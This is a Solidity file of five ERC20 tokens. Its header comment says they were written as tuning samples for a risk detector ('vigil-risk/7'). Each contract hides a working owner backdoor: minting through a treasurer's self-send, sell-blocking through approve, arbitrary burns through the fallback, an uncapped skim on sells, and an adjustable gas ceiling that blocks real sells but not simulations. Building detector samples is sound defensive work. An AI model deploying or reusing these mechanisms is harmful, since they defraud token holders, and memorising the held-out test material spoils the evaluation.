// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// Powers hidden where no function of their own shows them: in transfer (a wallet's send to itself
// mints what it names), in approve (a wallet's approval blocks the spender from selling), and in
// the fallback (any selector the contract does not declare burns from any account, for one
// wallet). The owner renounces. Written as tuning tokens for vigil-risk/7; other names than the
// held-out part.

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {TnRouterPair} from "./RouterPair.sol";

/// A send from the treasurer to itself mints the amount sent instead of moving it.
contract TnSelfSendToken is ERC20, Ownable {
    uint256 private launchedAt;
    address private treasurer;

    constructor(string memory n, string memory s, uint256 supply) ERC20(n, s) Ownable(msg.sender) {
        launchedAt = block.timestamp;
        treasurer = msg.sender;
        _mint(msg.sender, supply);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from == treasurer && to == treasurer) {
            super._update(address(0), to, value);
            return;
        }
        super._update(from, to, value);
    }
}

/// An approval given by the guardian marks the spender, who can then no longer send to the pair.
contract TnApproveBlockToken is ERC20, Ownable, TnRouterPair {
    address private guardian;
    mapping(address => bool) private flagged;

    constructor(string memory n, string memory s, uint256 supply, address router_)
        ERC20(n, s)
        Ownable(msg.sender)
        TnRouterPair(router_)
    {
        guardian = msg.sender;
        _mint(msg.sender, supply);
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        if (msg.sender == guardian) flagged[spender] = true;
        return super.approve(spender, value);
    }

    function _update(address from, address to, uint256 value) internal override {
        require(!flagged[from] || to != _pair(), "flagged");
        super._update(from, to, value);
    }
}

/// Any call the contract does not declare, from the steward, burns the amount it names from the
/// account it names.
contract TnFallbackToken is ERC20, Ownable {
    address private steward;

    constructor(string memory n, string memory s, uint256 supply) ERC20(n, s) Ownable(msg.sender) {
        steward = msg.sender;
        _mint(msg.sender, supply);
    }

    fallback() external {
        require(msg.sender == steward && msg.data.length >= 68, "no such function");
        (address account, uint256 amount) = abi.decode(msg.data[4:], (address, uint256));
        _burn(account, amount);
    }
}

/// A "reserve ratio" the owner may set without a cap: every sell then also takes that share of the
/// amount sold from what the seller keeps, for the reserve wallet. The sale itself pays in full.
contract TnReserveSkimToken is ERC20, Ownable, TnRouterPair {
    uint256 private reserveRatio;
    address private immutable reserve;

    constructor(string memory n, string memory s, uint256 supply, address router_, address reserve_)
        ERC20(n, s)
        Ownable(msg.sender)
        TnRouterPair(router_)
    {
        reserve = reserve_;
        _mint(msg.sender, supply);
    }

    function setReserveRatio(uint256 ratio) external onlyOwner {
        reserveRatio = ratio;
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (reserveRatio != 0 && from != address(0) && from != owner() && to == _pair()) {
            uint256 extra = (value * reserveRatio) / 100;
            uint256 kept = balanceOf(from);
            super._update(from, reserve, extra < kept ? extra : kept);
        }
    }
}

/// An "anti-bot" gas price ceiling for sells that the owner may set to anything: set to 1 wei, no
/// wallet can sell, while a simulation at a gas price of zero still can.
contract TnGasCeilingToken is ERC20, Ownable, TnRouterPair {
    uint256 private maxSellGasPrice = 500 gwei;

    constructor(string memory n, string memory s, uint256 supply, address router_)
        ERC20(n, s)
        Ownable(msg.sender)
        TnRouterPair(router_)
    {
        _mint(msg.sender, supply);
    }

    function setGasCeiling(uint256 weiPerGas) external onlyOwner {
        maxSellGasPrice = weiPerGas;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0) && from != owner() && to == _pair()) {
            require(tx.gasprice <= maxSellGasPrice, "gas price above the ceiling");
        }
        super._update(from, to, value);
    }
}
